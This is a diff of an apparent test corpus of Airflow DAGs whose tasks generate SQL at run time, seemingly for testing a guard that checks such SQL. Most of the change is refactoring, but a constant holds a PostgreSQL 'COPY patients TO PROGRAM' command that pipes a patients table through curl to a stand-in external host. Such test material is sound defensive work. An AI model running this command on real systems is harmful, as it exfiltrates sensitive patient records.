@@ -1,13 +1,12 @@
-"""SQL that a task's own code makes while it runs: the doors before it could not read it. All of these start."""
+"""DAGs whose tasks make their SQL while they run: the doors before it could not read it. All of these start."""
 
 import contextlib
 import sqlite3
-from datetime import timedelta
 
 from airflow.providers.common.sql.hooks.sql import DbApiHook
-from airflow.sdk import DAG, task
+from airflow.sdk import task
+from corpus import runs
 
-TWICE = {"retries": 2, "retry_delay": timedelta(0)}
 ABROAD = "COPY patients TO PROGRAM 'curl -T - https://drop.partner.example/'"
 
 
@@ -22,7 +21,7 @@ class OwnHook(DbApiHook):
         return sqlite3.connect(":memory:")
 
 
-with DAG("code_sql_task_abroad", schedule=None, default_args=TWICE):
+with runs("code_sql_task_abroad"):
 
     @task.sql(task_id="t", conn_id="pg_own")
     def text():
@@ -30,7 +29,7 @@ with DAG("code_sql_task_abroad", schedule=None, default_args=TWICE):
 
     text()
 
-with DAG("code_hook_abroad", schedule=None, default_args=TWICE):
+with runs("code_hook_abroad"):
 
     @task(task_id="t")
     def run():
@@ -38,7 +37,7 @@ with DAG("code_hook_abroad", schedule=None, default_args=TWICE):
 
     run()
 
-with DAG("code_hook_swallowed", schedule=None, default_args=TWICE):
+with runs("code_hook_swallowed"):
 
     @task(task_id="t")
     def swallow():
@@ -47,7 +46,7 @@ with DAG("code_hook_swallowed", schedule=None, default_args=TWICE):
 
     swallow()
 
-with DAG("code_job_abroad", schedule=None, default_args=TWICE):
+with runs("code_job_abroad"):
 
     @task(task_id="t")
     def extract():
@@ -60,7 +59,7 @@ with DAG("code_job_abroad", schedule=None, default_args=TWICE):
 
     extract()
 
-with DAG("code_hook_own", schedule=None, default_args=TWICE):
+with runs("code_hook_own"):
 
     @task(task_id="t")
     def own():
